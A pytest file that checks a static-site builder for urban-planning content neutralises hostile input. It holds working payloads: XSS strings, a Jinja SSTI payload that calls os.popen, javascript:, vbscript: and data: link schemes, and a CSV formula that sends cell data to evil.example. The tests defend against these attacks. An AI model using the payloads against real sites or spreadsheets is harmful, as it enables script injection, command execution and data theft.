"""Content is untrusted: no template evaluation, no live javascript: links, no formulas in CSV.

Browser-side defences (CSP, Leaflet text, the hostile-content property test) are in
test_security_browser.py.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from builder.records import REGISTRY
from builder.search.index import read_packed
from builder.site import build_site
from hostile import english_texts, TEMPLATE_PAYLOAD, make_project, texts

# Where a visitor expects to read each field: its record's own page.
FIELD_PAGES = {
    "plan_title": "plans/hostile-plan", "plan_short": "clusters/city-x", "issuer": "plans/hostile-plan",
    "period": "plans/hostile-plan", "summary": "plans/hostile-plan", "heading": "plans/hostile-plan",
    "city_cluster": "clusters/city-x", "city_alias": "clusters/city-x", "focus": "clusters/city-x",
    "district_cluster": "clusters/district-x", "park": "places/park-x", "park_status": "places/park-x",
    "park_description": "places/park-x", "area": "places/park-x", "geo_basis": "places/park-x",
    "point_place": "places/point-x", "district_place": "places/district-only-x",
    "district_a": "districts/longgang", "district_b": "districts/pingshan",
    "indicator": "plans/hostile-plan", "unit": "plans/hostile-plan", "group": "plans/hostile-plan",
    "base": "plans/hostile-plan", "target": "plans/hostile-plan", "actual": "plans/hostile-plan",
    "assessment": "plans/hostile-plan", "project": "places/park-x", "investment": "places/park-x",
    "project_description": "places/park-x", "department": "departments/department-x",
    "department_alias": "departments/department-x", "task": "departments/department-x",
    "street": "places/park-x", "role": "clusters/city-x", "function": "clusters/city-x", "pattern": "clusters/city-x",
    "project_street": "projects/project-x", "output": "projects/project-x", "start": "projects/project-x",
    "completion": "projects/project-x", "stage_text": "projects/project-x", "land": "projects/project-x",
}  # fmt: skip
EN_FIELD_PAGES = {  # the English names of content/english/ (hostile too), on their English pages
    "plan_title": "en/plans/hostile-plan", "plan_short": "en/clusters/city-x", "issuer": "en/plans/hostile-plan",
    "period": "en/plans/hostile-plan", "summary": "en/plans/hostile-plan", "city_cluster": "en/clusters/city-x",
    "focus": "en/clusters/city-x", "district_cluster": "en/clusters/district-x", "park": "en/places/park-x",
    "street": "en/places/park-x", "point_place": "en/places/point-x", "district_place": "en/places/district-only-x",
    "district_a": "en/districts/longgang", "district_b": "en/districts/pingshan", "indicator": "en/plans/hostile-plan",
    "group": "en/plans/hostile-plan", "project": "en/places/park-x", "role": "en/clusters/city-x",
    "function": "en/clusters/city-x", "pattern": "en/clusters/city-x", "department": "en/departments/department-x",
    "task": "en/plans/hostile-plan", "park_description": "en/places/park-x", "project_description": "en/projects/project-x",
}  # fmt: skip


def visible_text(page: Path) -> str:
    """What a reader sees: tags dropped, entities decoded, whitespace collapsed."""
    markup = re.sub(r"<(script|style)\b.*?</\1>", " ", page.read_text(encoding="utf-8"), flags=re.S)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", markup)).split())


def _built(tmp_path_factory, payload: str) -> Path:
    """The every-field project with `payload` in each text field, built."""
    project = make_project(tmp_path_factory.mktemp("hostile") / "project", payload)
    build_site(project, project / "site")
    return project / "site"


@pytest.fixture(scope="module")
def template_site(tmp_path_factory) -> Path:
    return _built(tmp_path_factory, TEMPLATE_PAYLOAD)


def test_template_syntax_in_every_text_field_is_published_literally(template_site):
    values = texts(TEMPLATE_PAYLOAD)
    assert set(FIELD_PAGES) | {"district_alias", "geo_district_name"} == set(values), "a field has no expected page"
    for field, page in FIELD_PAGES.items():
        shown = visible_text(template_site / page / "index.html")
        assert values[field] in shown, f"{field} not shown literally on {page}/"
    english = english_texts(TEMPLATE_PAYLOAD)
    assert set(EN_FIELD_PAGES) == set(english), "an English field has no expected page"
    for field, page in EN_FIELD_PAGES.items():
        assert english[field] in visible_text(template_site / page / "index.html"), f"English {field} not shown literally on {page}/"
        values[f"en {field}"] = english[field]
    everything = "".join(visible_text(p) for p in template_site.rglob("index.html"))
    for value in values.values():  # evaluated, `label{{ 7*7 }}` would read `label49`
        assert value.replace(TEMPLATE_PAYLOAD, "49") not in everything


MARKUP_PAYLOAD = '"><img id=pwned src=x onerror="alert(1)"><svg id=pwned onload=alert(1)></svg>'


class _ElementsFromContent(HTMLParser):
    """Collects the elements a browser would create from the payload: `id=pwned` or an `on…` handler."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if names.get("id") == "pwned" or any(name.startswith("on") for name in names):
            self.found.append(f"<{tag} {attrs}>")


@pytest.fixture(scope="module")
def markup_site(tmp_path_factory) -> Path:
    return _built(tmp_path_factory, MARKUP_PAYLOAD)


def check_markup_site(site: Path) -> None:
    """Every field's value reads literally on its page, and no page has an element the payload
    would create if a template printed it raw. Also run by tests/template_mutation.py."""
    values = texts(MARKUP_PAYLOAD)
    for field, page in FIELD_PAGES.items():
        shown = visible_text(site / page / "index.html")
        assert values[field] in shown, f"{field} is not shown literally on {page}/"
    english = english_texts(MARKUP_PAYLOAD)
    for field, page in EN_FIELD_PAGES.items():
        assert english[field] in visible_text(site / page / "index.html"), f"English {field} is not shown literally on {page}/"
    for page in sorted(site.rglob("*.html")):
        parser = _ElementsFromContent()
        parser.feed(page.read_text(encoding="utf-8"))
        assert not parser.found, f"{page.relative_to(site)}: {parser.found[:3]}"


def test_markup_in_every_text_field_is_escaped_without_a_browser(markup_site):
    """Every field, not only names (`|safe`, Markup, a macro could print any of them raw)."""
    check_markup_site(markup_site)


def test_map_scripts_carry_content_only_as_json_data(template_site):
    values = texts(TEMPLATE_PAYLOAD)
    script = (template_site / "assets/atlas/maps/home.js").read_text(encoding="utf-8")
    define, folium_part = script.split("\n", 1)
    match = re.fullmatch(r'AtlasMap\.define\("home", (.*)\);', define)
    spec = json.loads(match.group(1))
    assert values["city_cluster"] in [item["label"] for item in spec["legend"]["clusters"]]  # legend and filter, literally
    # Folium's templates saw nothing from content: only our identifiers, numbers and styles.
    assert folium_part.isascii()
    assert "{{" not in folium_part and "{%" not in folium_part and "{#" not in folium_part
    geo = json.loads((template_site / "assets/atlas/geo/atlas.geojson").read_text(encoding="utf-8"))
    assert values["park"] in {f["properties"]["name"] for f in geo["features"]}


def test_downloads_and_search_keep_template_syntax_as_text(template_site):
    values = texts(TEMPLATE_PAYLOAD)
    data = json.loads((template_site / "downloads/atlas.json").read_text(encoding="utf-8"))
    assert data["places"][0]["name"] == values["park"]
    rows = list(csv.reader(io.StringIO((template_site / "downloads/places.csv").read_text(encoding="utf-8-sig"))))
    assert values["park"] in rows[1]
    shards = "".join(read_packed(template_site).values())
    assert json.dumps(values["park"], ensure_ascii=False)[1:-1] in shards


def test_a_shell_command_in_a_name_never_runs(tmp_path):
    marker = tmp_path / "pwned"
    payload = "{{ lipsum.__globals__.os.popen('touch " + str(marker) + "').read() }}{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "') }}"
    project = make_project(tmp_path / "project", payload)
    build_site(project, project / "site")
    assert not marker.exists()
    place = visible_text(project / "site/places/park-x/index.html")
    assert texts(payload)["park"] in place


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
    ],
)
def test_unsafe_link_schemes_are_removed_with_a_warning(tmp_path, link):
    project = make_project(tmp_path / "project", "x")
    text = project / "content/plans/hostile-plan/text.md"
    body = text.read_text(encoding="utf-8")
    body = body.replace("第二段：", f"第二段：[点我]({link}) [好链接](https://example.org/a) [站内](../p/) [邮件](mailto:a@b.cn)")
    text.write_text(body, encoding="utf-8")
    line = next(i for i, row in enumerate(body.splitlines(), start=1) if "点我" in row)

    check = subprocess.run(
        [sys.executable, "-m", "builder.cli", "check", "--project", str(project)], capture_output=True, text=True
    )
    assert check.returncode == 0, check.stderr  # a warning, not an error
    warning = [row for row in check.stderr.splitlines() if "unsafe link removed" in row]
    assert len(warning) == 1, check.stderr
    assert warning[0].startswith(f"content/plans/hostile-plan/text.md:{line}: warning: ")

    build_site(project, project / "site")
    page = (project / "site/plans/hostile-plan/index.html").read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert not [h for h in hrefs if re.sub(r"[\s\x00-\x1f]", "", html.unescape(html.unescape(h))).lower().startswith(("javascript", "data", "vbscript"))]
    assert "https://example.org/a" in hrefs and "../p/" in hrefs and "mailto:a@b.cn" in hrefs
    assert "点我" in visible_text(project / "site/plans/hostile-plan/index.html")  # the words stay, the link goes


def test_attribute_lists_in_plan_text_cannot_add_event_handlers(tmp_path):
    project = make_project(tmp_path / "project", "x")
    text = project / "content/plans/hostile-plan/text.md"
    body = text.read_text(encoding="utf-8")
    body = body.replace("第二段：", '第二段 {: onmouseover="alert(1)" style="color:red" }\n{: onclick="alert(2)" }\n第二段：')
    body = body.replace("二 {#s1-1}", '二 {: onclick="alert(3)" } {#s1-1}')
    text.write_text(body, encoding="utf-8")
    build_site(project, project / "site")
    page = (project / "site/plans/hostile-plan/index.html").read_text(encoding="utf-8")
    article = page[page.index("<article") : page.index("</article>")]
    assert not re.search(r"<[^>]+\s(on\w+|style)\s*=", article, flags=re.I)


def test_spreadsheet_cells_cannot_start_a_formula(tmp_path):
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    project = make_project(tmp_path / "project", payload, leading=True)
    build_site(project, project / "site")
    downloads = sorted((project / "site/downloads").glob("*.csv"))
    assert len(downloads) == sum(1 for rt in REGISTRY if rt.sheet)
    for path in downloads:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        assert len(rows) > 1, path
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (path.name, cell)
    rows = list(csv.reader(io.StringIO((project / "site/downloads/places.csv").read_text(encoding="utf-8-sig"))))
    park = next(row for row in rows if row[0] == "park-x")
    assert park[1] == "'" + texts(payload, leading=True)["park"]  # the text itself is kept, behind a quote
    from openpyxl import load_workbook

    book = load_workbook(project / "site/downloads/atlas.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert cells and not [c for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "@"))]
    assert "'" + texts(payload, leading=True)["park"] in [c.value for c in cells]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-3.5", "12", "普通文字"])
def test_spreadsheet_safe_follows_owasp(value):
    from builder.render.spreadsheet import spreadsheet_safe

    expected = value if value in ("-3.5", "12", "普通文字") else "'" + value
    assert spreadsheet_safe(value) == expected
